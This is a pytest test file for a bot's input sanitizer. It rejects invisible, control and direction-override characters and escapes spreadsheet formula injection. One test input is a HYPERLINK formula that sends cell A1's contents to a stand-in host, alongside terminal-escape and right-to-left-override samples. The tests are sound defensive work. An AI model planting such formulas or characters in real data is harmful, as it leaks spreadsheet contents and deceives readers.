"""What the bot takes as text and what it writes into a spreadsheet cell
(`bot.text`): invisible and control characters, and formulas."""

from __future__ import annotations

import pytest

from bot.text import formula_like, spreadsheet_text, text_problem, visible

NOTHING = "has nothing in it that shows"
CONTROL = "has a control character in it"
DIRECTION = "has a character in it that turns the text's direction around"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        pytest.param("\u200b\u200c\u200d", NOTHING, id="zero-width space, non-joiner, joiner"),
        pytest.param("\ufeff\u2060\u2063", NOTHING, id="byte-order mark, word joiner, separator"),
        pytest.param("\u00ad", NOTHING, id="soft hyphen"),
        pytest.param("\u3164\u3164", NOTHING, id="Hangul filler"),
        pytest.param("\u2800", NOTHING, id="blank Braille pattern"),
        pytest.param("\u0301\u0308", NOTHING, id="combining marks alone"),
        pytest.param("\u00a0\u2003\u3000", NOTHING, id="no-break, em and ideographic spaces"),
        pytest.param("\ue000", NOTHING, id="private use"),
        pytest.param("Ann\x00", CONTROL, id="NUL"),
        pytest.param("\x00", CONTROL, id="NUL alone"),
        pytest.param("Bo\x07b", CONTROL, id="bell"),
        pytest.param("Cal\x1b[31m", CONTROL, id="terminal escape"),
        pytest.param("Dee\x7f", CONTROL, id="delete"),
        pytest.param("Eve\u202eevil", DIRECTION, id="right-to-left override"),
        pytest.param("\u2066Fay\u2069", DIRECTION, id="isolates"),
        pytest.param("Gus\ud800", "has a broken character in it", id="half a surrogate pair"),
        pytest.param("two\nlines", CONTROL, id="a line break where one line is asked"),
        pytest.param("Zoë", None, id="accents"),
        pytest.param("José Núñez", None, id="accents and a space"),
        pytest.param("👩\u200d👩\u200d👧 Family", None, id="an emoji with joiners"),
        pytest.param("\u200bAnn", None, id="a zero-width space before a name"),
        pytest.param("محمد\u200f", None, id="Arabic with a right-to-left mark"),
        pytest.param("李小龍", None, id="Chinese"),
    ],
)  # fmt: skip
def test_text_that_shows_nothing_or_holds_controls_is_refused(
    text: str, problem: str | None
) -> None:
    assert text_problem(text) == problem


def test_a_text_of_several_lines_keeps_its_line_breaks_but_not_a_nul() -> None:
    assert text_problem("typo on\nthe display\tfixed", line_breaks=True) is None
    assert text_problem("typo\x00", line_breaks=True) == CONTROL
    assert text_problem("\n\t\u200b", line_breaks=True) == NOTHING


def test_nothing_is_taken_out_of_what_shows() -> None:
    assert visible("👩\u200d👧 Zoë") == "👩👧Zoë"  # only the joiners and the space
    assert visible("\u200b\u3164") == ""


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")',
         '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),  # past the spaces a spreadsheet may trim
        ("\u200b=1+1", "'\u200b=1+1"),  # past an invisible character
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("Ann", "Ann"),
        ("A=B", "A=B"),
        ("Mary-Jo", "Mary-Jo"),
        ("", ""),
    ],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str, cell: str) -> None:
    assert spreadsheet_text(text) == cell
    assert formula_like(text) == (cell != text)
